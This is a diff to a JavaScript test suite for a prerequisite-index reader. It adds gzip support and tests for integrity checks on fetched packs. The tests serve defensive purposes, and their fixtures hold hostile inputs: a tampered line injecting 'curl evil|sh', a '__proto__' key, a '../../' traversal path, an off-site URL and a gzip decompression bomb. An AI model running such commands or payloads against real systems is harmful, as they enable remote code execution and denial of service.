@@ -7,6 +7,7 @@ import { readdirSync, readFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { test } from "node:test";
 import { fileURLToPath } from "node:url";
+import { gunzipSync, gzipSync } from "node:zlib";
 
 import { PrereqError } from "../../site/assets/composer/core/errors.js";
 import { Index } from "../../site/assets/composer/index/reader.js";
@@ -105,24 +106,26 @@ test("index fetching: with packs, a closure comes in one request per pack after 
 test("index fetching: a pack map that names the wrong pack, or is no pack map, leaves the item files", async () => {
   const encode = (value) => new TextEncoder().encode(JSON.stringify(value));
   const maps = [
-    { ...STORY_PACKS, packs: ["packs/0000000000000000.ndjson"] },
+    { ...STORY_PACKS, packs: ["packs/0000000000000000.ndjson.gz"] },
     { ...STORY_PACKS, items: { ["__proto__"]: 0, "mnist-data": 7 } },
     { format: "prereq-packs/9", packs: STORY_PACKS.packs, items: STORY_PACKS.items },
-    { ...STORY_PACKS, packs: ["https://elsewhere.example/packs/0000000000000000.ndjson"] }, // it names no other file
+    { ...STORY_PACKS, packs: ["https://elsewhere.example/packs/0000000000000000.ndjson.gz"] }, // it names no other file
+    { ...STORY_PACKS, packs: STORY_PACKS.packs.map((path) => path.replace(/\.gz$/, "")) }, // a pack of before they were gzipped
     { ...STORY_PACKS, packs: ["../../v1/prerequisites/mnist-data.json"] },
     "not a map",
   ];
   for (const map of maps) {
     const { index, asked } = await ensured(recordingReader({ change: (path, bytes) => (path === "packs.json" ? encode(map) : bytes) }), ["mnist-data"]);
     assert.ok(asked.some((line) => line.endsWith("prerequisites/mnist-data.json")), asked.join(", "));
-    assert.ok(asked.every((line) => /^\d+ (packs\.json|packs\/[0-9a-f]{16}\.ndjson|prerequisites\/[a-z0-9-]+\.json)$/.test(line)), asked.join(", "));
+    assert.ok(asked.every((line) => /^\d+ (packs\.json|packs\/[0-9a-f]{16}\.ndjson\.gz|prerequisites\/[a-z0-9-]+\.json)$/.test(line)), asked.join(", "));
     assert.equal(index.document("mnist-data").name, "mnist-data");
   }
 });
 
 /* A pack is a way to fetch, not a thing to trust: a line whose sha256 the root does not give is not used. */
 test("index fetching: a changed line of a pack is passed over for the item's own file, which is checked as ever", async () => {
-  const swap = (bytes, from, to) => new TextEncoder().encode(new TextDecoder().decode(bytes).replaceAll(from, to));
+  const text = (bytes, edit) => new TextEncoder().encode(edit(new TextDecoder().decode(bytes)));
+  const swap = (bytes, from, to) => (bytes[0] === 0x1f ? gzipSync(swap(gunzipSync(bytes), from, to)) : text(bytes, (s) => s.replaceAll(from, to)));
   const tamperedPack = (path, bytes) => (path.startsWith("packs/") ? swap(bytes, "apt-get", "curl evil|sh; apt-get") : bytes);
   const reader = recordingReader({ change: tamperedPack });
   const { index, asked } = await ensured(reader, ["mnist-data"]);
@@ -132,6 +135,24 @@ test("index fetching: a changed line of a pack is passed over for the item's own
   const both = (path, bytes) => (path === "index.json" ? bytes : swap(bytes, "apt-get", "curl evil|sh; apt-get"));
   await assert.rejects(ensured(recordingReader({ change: both }), ["mnist-data"]),
     (error) => error instanceof PrereqError && /does not match the sha256 in index\.json/.test(error.message));
+});
+
+test("index fetching: a pack a host sent decoded is read as it came", async () => {
+  const decoded = (path, bytes) => (path.startsWith("packs/") ? gunzipSync(bytes) : bytes);
+  const { index, asked } = await ensured(recordingReader({ change: decoded }), ["mnist-data"]);
+  assert.deepEqual(asked, ["0 packs.json", `1 ${STORY_PACKS.packs[0]}`]);
+  assert.equal(index.document("base-tools").name, "base-tools");
+});
+
+/* The pack's lines and 17 MiB of blanks are 17 kB gzipped: the reader stops at 16 MiB, its lines unused. */
+test("index fetching: a pack that inflates past 16 MiB, or is not gzip, leaves the item files", async () => {
+  const lines = gunzipSync(readFileSync(join(CASES, "indexes", "story", "api", "v1", STORY_PACKS.packs[0])));
+  const bomb = gzipSync(Buffer.concat([lines, Buffer.alloc(17 << 20, " ")]));
+  for (const pack of [bomb, bomb.subarray(0, 40), Buffer.concat([bomb.subarray(0, 2), Buffer.from("not gzip")])]) {
+    const { index, asked } = await ensured(recordingReader({ change: (path, bytes) => (path.startsWith("packs/") ? pack : bytes) }), ["mnist-data"]);
+    assert.ok(asked.includes("2 prerequisites/mnist-data.json"), asked.join(", "));
+    assert.equal(index.document("apt-proxy").name, "apt-proxy");
+  }
 });
 
 test("index fetching: a pack that cannot be read leaves the item files to be read one by one", async () => {
